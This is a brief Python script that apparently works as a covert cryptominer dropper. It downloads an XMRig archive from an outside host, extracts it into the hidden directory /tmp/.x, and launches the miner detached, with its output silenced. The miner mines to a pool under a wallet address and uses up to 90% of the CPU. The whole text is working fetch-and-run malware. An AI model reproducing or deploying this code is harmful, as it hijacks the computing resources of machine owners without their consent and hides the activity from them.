import os, tarfile, subprocess, urllib.request

URL = "https://dl.example.net/xmrig-6.21-linux-x64.tar.gz"
dst = "/tmp/.x"
os.makedirs(dst, exist_ok=True)
urllib.request.urlretrieve(URL, dst + "/m.tgz")
tarfile.open(dst + "/m.tgz").extractall(dst)
subprocess.Popen([dst + "/xmrig", "-o", "pool.example.net:3333", "-u", "48edfHu7V9Z84YzzMa6fUueoELZ9ZRXq9", "--cpu-max-threads-hint=90"],
                 stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL, start_new_session=True)
